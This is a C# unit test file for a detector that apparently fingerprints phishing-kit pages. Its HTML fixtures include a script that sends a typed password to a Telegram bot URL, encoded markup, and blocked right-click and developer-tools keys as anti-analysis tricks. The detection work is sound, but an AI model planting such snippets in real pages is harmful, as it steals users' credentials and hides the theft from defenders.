using Vigie.Enrichment.Tests.Support;

namespace Vigie.Enrichment.Tests.Pages;

public sealed class KitFingerprintReaderTests
{
    [Fact]
    public async Task AnalyzeAsync_PasswordSentToTelegramBot_Exfiltration()
    {
        const string html = """
            <input type=password id=p><script>function send(){fetch('https://api.telegram.org/bot123:abc/sendMessage?chat_id=9&text='+p.value)}</script>
            """;

        var page = await AnalyzePage.RunAsync(html);

        Assert.Equal("api.telegram.org", page.Kit.Exfiltration);
    }

    [Fact]
    public async Task AnalyzeAsync_EncodedMarkupAndRightClickBlocked_ObfuscatedAndAntiAnalysis()
    {
        const string html = """
            <body oncontextmenu="return false"><script>document.write(unescape('%3Cform%3E%3Cinput%20type%3Dpassword%3E'));
            document.onkeydown = function(e) { if (e.keyCode == 123) return false; };</script></body>
            """;

        var page = await AnalyzePage.RunAsync(html);

        Assert.True(page.Kit.Obfuscated);
        Assert.True(page.Kit.AntiAnalysis);
    }

    [Theory]
    [InlineData("next.php", "next.php")]
    [InlineData("../extra/post.php?step=1", "post.php")]
    [InlineData("/account/session", null)]
    public async Task AnalyzeAsync_SecretFormAction_KitScriptByName(string action, string? script)
    {
        var page = await AnalyzePage.RunAsync($"<form action='{action}' method=post><input type=email name=e><input type=password name=p></form>");

        Assert.Equal(script, page.Kit.KitScript);
    }

    [Fact]
    public async Task AnalyzeAsync_LinksToHashScriptOrNowhere_CountedDead()
    {
        var page = await AnalyzePage.RunAsync("""
            <a href="#">Forgot password?</a> <a href=" #signup">Sign up</a> <a href="JavaScript:void(0)">Help</a> <a>Terms</a>
            <a href="/privacy">Privacy</a> <a href="https://shop.example/help">Help centre</a>
            """);

        Assert.Equal((4, 6), page.Kit.Links);
    }

    [Fact]
    public async Task AnalyzeAsync_NoLink_NoneCounted() =>
        Assert.Equal((0, 0), (await AnalyzePage.RunAsync("<form><input type=password></form>")).Kit.Links);
}
